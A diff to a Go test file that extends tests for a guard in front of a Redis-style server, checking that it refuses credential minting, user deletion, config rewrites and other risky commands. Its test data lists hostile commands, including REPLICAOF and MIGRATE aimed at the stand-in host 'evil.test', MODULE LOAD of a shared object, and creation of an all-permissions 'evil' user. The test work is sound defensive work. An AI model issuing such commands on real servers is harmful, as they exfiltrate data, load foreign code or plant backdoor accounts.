@@ -101,14 +101,15 @@ func TestSession(t *testing.T) {
 	t.Run("minting", func(t *testing.T) {
 		w := newWorld(t, srv)
 		c := dial(t, w.port)
+		srv.ask(t, "ACL", "SETUSER", "bystander", "off")
 		for _, cmd := range [][]string{
-			{"ACL", "SETUSER", "evil", "on", ">minted", "+@all", "~*"}, {"acl", "setuser", "evil"}, {"ACL", "GENPASS"},
+			{"ACL", "SETUSER", "evil", "on", ">minted", "+@all", "~*"}, {"acl", "setuser", "evil"}, {"ACL", "GENPASS"}, {"ACL", "DELUSER", "bystander"}, {"acl", "deluser", "bystander", ">x"},
 			{"CONFIG", "SET", "requirepass", "x"}, {"config", "set", "maxmemory", "0", "RequirePass", "x"}, {"CONFIG", "SET", "masterauth", "x"},
 		} {
 			c.want("-NOPERM guard refused the use of credential cache: token:mint is outside", cmd...)
 		}
 		c.want("+OK", "CONFIG", "SET", "maxmemory", "0")
-		if got := srv.ask(t, "ACL", "LIST"); strings.Contains(got, "evil") {
+		if got := srv.ask(t, "ACL", "LIST"); strings.Contains(got, "evil") || !strings.Contains(got, "bystander") {
 			t.Error(got)
 		}
 		w.change(func() { w.scope = "token:mint" })
@@ -122,11 +123,15 @@ func TestSession(t *testing.T) {
 		if want := []string{"token:mint made first-minted", "token:mint made second-minted", "token:mint default " + srv.password}; !slices.Equal(kept, want) {
 			t.Errorf("kept %q", kept)
 		}
+		c.want(":1", "ACL", "DELUSER", "bystander", ">no-password")
+		if len(kept) != 3 {
+			t.Errorf("DELUSER kept %q", kept[3:])
+		}
 		w.h.Minted = func(guard.Use, string, guard.Secret) error { return io.ErrClosedPipe }
 		c.want("-NOPERM guard could not keep", "ACL", "SETUSER", "made", ">third-minted")
 		w.mu.Lock()
 		defer w.mu.Unlock()
-		if u := w.uses[len(w.uses)-1]; u.Action != "token:mint" || len(w.refused) != 6 {
+		if u := w.uses[len(w.uses)-1]; u.Action != "token:mint" || len(w.refused) != 8 {
 			t.Errorf("%+v %q", u, w.refused)
 		}
 	})
@@ -138,7 +143,7 @@ func TestSession(t *testing.T) {
 			{"MONITOR"}, {"monitor"}, {"PSYNC", "?", "-1"}, {"SYNC"}, {"REPLCONF", "listening-port", "1"}, {"REPLICAOF", "evil.test", "6379"}, {"SLAVEOF", "evil.test", "1"},
 			{"MIGRATE", "evil.test", "6379", "k", "0", "1000", "COPY"}, {"CLUSTER", "MEET", "evil.test", "1"}, {"CONFIG", "SET", "dir", "/etc"}, {"CONFIG", "SET", "maxmemory", "1", "DBFILENAME", "x"},
 			{"MODULE", "LOAD", "/tmp/x.so"}, {"DEBUG", "SEGFAULT"}, {"CLIENT", "REPLY", "OFF"}, {"CLIENT", "REPLY", "SKIP"}, {"SENTINEL", "x"}, {"NOSUCHCOMMAND", "x"}, {"FAILOVER"},
-			{"ACL", "LOAD"}, {"ACL", "NOSUCH"}, {"DEBUG", "SLEEP", "1"}, {strings.Repeat("x", 100)}, {"SET\r\n", "x"}, {""},
+			{"ACL", "LOAD"}, {"ACL", "SAVE"}, {"CONFIG", "REWRITE"}, {"config", "rewrite"}, {"ACL", "NOSUCH"}, {"DEBUG", "SLEEP", "1"}, {strings.Repeat("x", 100)}, {"SET\r\n", "x"}, {""},
 		} {
 			c.want("-NOPERM guard", cmd...)
 		}
@@ -159,7 +164,7 @@ func TestReadScope(t *testing.T) {
 		{"GEORADIUS", "g", "1", "1", "1", "m", "STOREDIST", "d"}, {"GEORADIUSBYMEMBER", "g", "m", "1", "m", "storedist", "d"},
 		{"BITFIELD", "k", "SET", "u8", "0", "1"}, {"BITFIELD", "k", "GET", "u8", "0", "INCRBY", "u8", "0", "1"}, {"GETEX", "k", "EX", "1"}, {"GETEX", "k", "PERSIST"}, {"GETDEL", "k"},
 		{"COPY", "k", "d"}, {"MOVE", "k", "1"}, {"SWAPDB", "0", "1"}, {"PUBLISH", "c", "m"}, {"XREADGROUP", "GROUP", "g", "c", "STREAMS", "s", ">"}, {"XGROUP", "CREATE", "s", "g", "$"},
-		{"CLIENT", "KILL", "ID", "1"}, {"CONFIG", "SET", "maxmemory", "0"}, {"CONFIG", "REWRITE"}, {"SCRIPT", "FLUSH"}, {"FUNCTION", "FLUSH"}, {"SLOWLOG", "RESET"}, {"SHUTDOWN"}, {"SAVE"},
+		{"CLIENT", "KILL", "ID", "1"}, {"CONFIG", "SET", "maxmemory", "0"}, {"ACL", "LOG", "RESET"}, {"acl", "log", "reset"}, {"SCRIPT", "FLUSH"}, {"FUNCTION", "FLUSH"}, {"SLOWLOG", "RESET"}, {"SHUTDOWN"}, {"SAVE"},
 		{"RESTORE", "d", "0", "x"}, {"PFADD", "h", "x"}, {"BLPOP", "l", "0"}, {"LATENCY", "RESET"}, {"MEMORY", "PURGE"}, {"ACL", "DELUSER", "x"}, {"BITOP", "NOT", "d", "k"}, {"UNLINK", "k"},
 		{"EXPIRE", "k", "1"}, {"RENAME", "k", "d"}, {"ZRANGESTORE", "d", "z", "0", "1"}, {"SINTERSTORE", "d", "s"},
 	} {
